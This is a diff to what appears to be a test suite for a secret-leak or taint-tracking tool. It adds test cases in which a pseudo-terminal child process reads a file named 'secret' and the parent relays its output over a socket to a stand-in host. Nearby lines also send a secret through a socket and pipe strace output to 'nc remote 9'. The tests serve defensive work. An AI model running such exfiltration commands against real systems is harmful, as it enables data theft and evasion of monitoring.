@@ -56,6 +56,22 @@ request.sendall(open("secret", "rb").read())
 socket.create_connection(("10.77.0.2", 9)).sendall(request.recv(32))
 """
 
+# As sshd does: one process reads what a program shows on its terminal, and has a connection.
+REMOTE_LOGIN = """
+import os, pty, socket
+out = socket.create_connection(("10.77.0.2", 9))
+child, terminal = pty.fork()
+if not child:
+    os.execlp("sh", "sh", "-c", "sleep 0.2; cat secret")
+try:
+    while data := os.read(terminal, 1000):
+        out.sendall(data)
+except OSError:
+    pass
+"""
+# As a terminal in such a terminal, whose reader only writes to it.
+REMOTE_LOGIN_TWICE = REMOTE_LOGIN.replace('"sleep 0.2; cat secret"', '"exec script -qc \'sleep 0.2; cat secret\' /dev/null"')
+
 # The first four of the clean bytes are gone when derived ones come after them.
 READ_IN_PART = """
 import os
@@ -170,6 +186,9 @@ def scripts():
         "traced-from-birth": "way traced-from-birth secret",
         "strace": "strace -s 100 -e trace=read cat secret 2>&1 > /dev/null | grep Sphinx | nc remote 9",
         "shared-file": "way shared-file secret",
+        # Terminals that are shown elsewhere.
+        "remote-login": python(REMOTE_LOGIN),
+        "remote-login-twice": python(REMOTE_LOGIN_TWICE),
         # Objects of the kernel that give it back.
         "event-counter": "way counter secret",
         "kernel-cipher": python(CIPHER),
